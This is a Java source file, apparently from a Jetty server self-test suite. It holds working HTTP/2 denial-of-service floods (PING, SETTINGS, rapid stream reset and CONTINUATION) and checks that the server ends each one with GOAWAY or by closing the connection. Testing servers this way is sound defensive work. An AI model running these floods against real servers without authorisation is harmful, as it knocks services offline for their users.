package org.eclipse.jetty.operations.selftest;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Floods of frames over HTTP/2 (RFC 9113), which must end in GOAWAY or the end of the connection. */
final class Http2Attacks {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final String PROPERTY = "jetty.http2.rateControl.maxEventsPerSecond (jetty.http2c... in clear text)";
    private static final String EXPECTED = "GOAWAY, or closed";
    private static final int FRAMES = 20_000;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int MAX_PAYLOAD = 16_384;

    private Http2Attacks() {}

    static List<Attack> all() {
        byte[] ping = frame(PING, 0, 0, new byte[8]);
        byte[] settings = frame(SETTINGS, 0, 0, new byte[0]);
        return List.of(
                flood("PING", PROPERTY, (target, out) -> repeat(out, ping)),
                flood("SETTINGS", PROPERTY, (target, out) -> repeat(out, settings)),
                flood("requests that are reset", PROPERTY, Http2Attacks::reset),
                flood("CONTINUATION without end", "jetty.httpConfig.requestHeaderSize", Http2Attacks::continuation));
    }

    /** Sends frames until it fails or enough were sent. */
    @FunctionalInterface
    private interface Flood {
        void send(Target target, OutputStream out) throws IOException;
    }

    private static Attack flood(String name, String property, Flood flood) {
        return new Attack("HTTP/2 flood: " + name, EXPECTED, property, target -> {
            try (Socket socket = target.connect("h2")) {
                Thread sender = new Thread(
                        () -> {
                            try {
                                OutputStream out = socket.getOutputStream();
                                out.write(PREFACE);
                                out.write(frame(SETTINGS, 0, 0, new byte[0]));
                                flood.send(target, out);
                                out.flush();
                            } catch (IOException x) {
                                // the server has closed: what the reader sees, too
                                Thread.currentThread().interrupt();
                            }
                        },
                        "selftest-flood");
                sender.setDaemon(true);
                sender.start();
                return read(socket);
            }
        });
    }

    private static Outcome read(Socket socket) throws IOException {
        int frames = 0;
        try {
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.readUnsignedByte();
                in.readInt();
                in.readNBytes(length);
                frames++;
                if (type == GOAWAY) {
                    return Outcome.held("GOAWAY");
                }
            }
        } catch (SocketTimeoutException x) {
            return Outcome.failed("open after " + frames + " frames");
        } catch (EOFException x) {
            return Outcome.held("closed");
        } catch (IOException x) {
            return Outcome.held("reset");
        }
    }

    private static void repeat(OutputStream out, byte[] frame) throws IOException {
        ByteArrayOutputStream many = new ByteArrayOutputStream();
        for (int i = 0; i < 100; i++) {
            many.write(frame);
        }
        byte[] bytes = many.toByteArray();
        for (int i = 0; i < FRAMES / 100; i++) {
            out.write(bytes);
        }
    }

    private static void reset(Target target, OutputStream out) throws IOException {
        byte[] block = request(target);
        // the code CANCEL
        byte[] cancel = {0, 0, 0, 8};
        for (int i = 0; i < FRAMES; i++) {
            ByteArrayOutputStream both = new ByteArrayOutputStream();
            both.write(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block));
            both.write(frame(RST_STREAM, 0, 2 * i + 1, cancel));
            out.write(both.toByteArray());
        }
    }

    private static void continuation(Target target, OutputStream out) throws IOException {
        out.write(frame(HEADERS, END_STREAM, 1, request(target)));
        // literal fields without indexing (RFC 7541, section 6.2.2): name x, empty value
        byte[] fields = new byte[MAX_PAYLOAD / 4 * 4];
        for (int i = 0; i < fields.length; i += 4) {
            fields[i] = 0;
            fields[i + 1] = 1;
            fields[i + 2] = 'x';
            fields[i + 3] = 0;
        }
        for (int i = 0; i < 1000; i++) {
            out.write(frame(CONTINUATION, 0, 1, fields));
        }
    }

    /** GET / by the static table (RFC 7541, appendix A), and a literal authority. */
    private static byte[] request(Target target) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x82);
        block.write(0x84);
        block.write(target.isTls() ? 0x87 : 0x86);
        byte[] host = "localhost".getBytes(StandardCharsets.US_ASCII);
        block.write(0x01);
        block.write(host.length);
        block.write(host);
        return block.toByteArray();
    }

    private static byte[] frame(int type, int flags, int streamId, byte[] payload) {
        byte[] frame = new byte[9 + payload.length];
        frame[0] = (byte) (payload.length >> 16);
        frame[1] = (byte) (payload.length >> 8);
        frame[2] = (byte) payload.length;
        frame[3] = (byte) type;
        frame[4] = (byte) flags;
        frame[5] = (byte) (streamId >> 24);
        frame[6] = (byte) (streamId >> 16);
        frame[7] = (byte) (streamId >> 8);
        frame[8] = (byte) streamId;
        System.arraycopy(payload, 0, frame, 9, payload.length);
        return frame;
    }
}
